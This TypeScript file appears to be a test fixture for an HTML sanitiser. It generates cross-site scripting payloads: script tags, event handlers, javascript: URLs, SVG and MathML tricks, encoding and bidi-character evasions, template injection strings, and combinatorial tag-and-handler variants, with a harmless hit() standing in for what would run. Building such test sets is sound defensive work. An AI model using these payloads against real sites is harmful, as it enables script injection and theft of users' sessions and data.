/** What an attack does when it runs: the page counts it. */
const HIT = 'hit()';

/** Known by heart to everybody who tries; `hit()` stands for what is to run. */
const CLASSICS = [
  `<script>${HIT}</script>`,
  `"><script>${HIT}</script>`,
  `'><script>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `--><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script/x>${HIT}</script>`,
  `<script src=//x.example></script>`,
  `<<script>${HIT}//<</script>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><script href=data:,${HIT} />`,
  `<svg><style><img src=x onerror=${HIT}>`,
  `<svg><animate onbegin=${HIT}>`,
  `<svg><a xlink:href=javascript:${HIT}>x`,
  `<svg><foreignObject><img src onerror=${HIT}>`,
  `<svg><use href=data:image/svg+xml,x#x>`,
  `<math><mtext><img src onerror=${HIT}>`,
  `<math href=javascript:${HIT}>x</math>`,
  `<math><mi xlink:href=javascript:${HIT}>`,
  `<noscript><p title="</noscript><img src onerror=${HIT}>`,
  `<template><img src onerror=${HIT}></template>`,
  `<a href=javascript:${HIT}>x</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">`,
  `<iframe srcdoc="<script>${HIT}</script>">`,
  `<iframe src=javascript:${HIT}>`,
  `<object data=javascript:${HIT}>`,
  `<embed src=javascript:${HIT}>`,
  `<form action=javascript:${HIT}><button>`,
  `<button formaction=javascript:${HIT}>`,
  `<base href=//x.example/>`,
  `<link rel=stylesheet href=//x.example>`,
  `<meta http-equiv=refresh content=0;javascript:${HIT}>`,
  `<style>@import '//x.example'</style>`,
  `<style>*{background:url(javascript:${HIT})}`,
  `<p style=background:url(//x.example)>`,
  `<p style=width:expression(${HIT})>`,
  `<marquee onstart=${HIT}>`,
  `<xss autofocus tabindex=1 onfocus=${HIT}>`,
  `<input autofocus onfocus=${HIT}>`,
  `<dialog open onclose=${HIT}>`,
  `<img src=x onerror=${HIT}//`,
  `<img/src/onerror=${HIT}>`,
  `<img src=x:x onerror\n=${HIT}>`,
  `<img \u0000src=x onerror=${HIT}>`,
  `<img src=\`x\`onerror=${HIT}>`,
  `<img """><script>${HIT}</script>">`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;img src onerror=${HIT}&#62;`,
  `\\u003cimg src onerror=${HIT}\\u003e`,
  `%3Cimg src onerror=${HIT}%3E`,
  `＜script＞${HIT}＜/script＞`,
  `\u202e>${HIT}=rorreno crs gmi<`,
  `<img src onerror=${HIT}>\u202e\u2066\u2069`,
  `\u200d<img src onerror=${HIT}>\u200d`,
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}}`,
  `#{${HIT}}`,
  `<%= ${HIT} %>`,
  `{name}<img src onerror=${HIT}>{count}`,
  `{title}{detail}{name}{constructor}`,
  `__proto__`,
  `constructor`,
  `[object Object]`,
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `vbscript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `https://x.example/"onmouseover="${HIT}`,
  `https://x.example/'><img src onerror=${HIT}>`,
  `https://x.example/<img src onerror=${HIT}>`,
  `http://javascript:${HIT}@x.example/`,
  `https://x.example\u202e/moc`,
  `https://x.example/${'%3Cscript%3E'.repeat(3)}`,
  `http:javascript:${HIT}`,
  `//x.example/${HIT}`,
  `[x](javascript:${HIT})`,
  `![x](x"onerror="${HIT})`,
  `<https://x.example onclick=${HIT}>`,
  `*/${HIT}/*`,
  `';${HIT};'`,
  `";${HIT};"`,
  `\`;${HIT};\``,
  `</style><img src onerror=${HIT}>`,
  `x" style="position:fixed;inset:0" onclick="${HIT}`,
];

const TAGS = ['img', 'svg', 'video', 'audio', 'body', 'details', 'iframe', 'object', 'x', 'select'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart'];
/** How an attack gets out of where its text was put. */
const BREAKS = ['', '">', "'>", '</p>'];

/** At least 300 texts that would run something where text is taken for HTML, a link or a template. */
export function hostileTexts(): string[] {
  const made = BREAKS.flatMap((out) =>
    TAGS.flatMap((tag) =>
      HANDLERS.map((handler) => `${out}<${tag} src ${handler}=${HIT} autofocus open>`),
    ),
  );
  return [...new Set([...CLASSICS, ...made])];
}

/** The same attack behind much harmless text. */
export function longHostileText(bytes: number): string {
  const attack = `<img src onerror=${HIT}>`;
  return 'x'.repeat(bytes - attack.length) + attack;
}
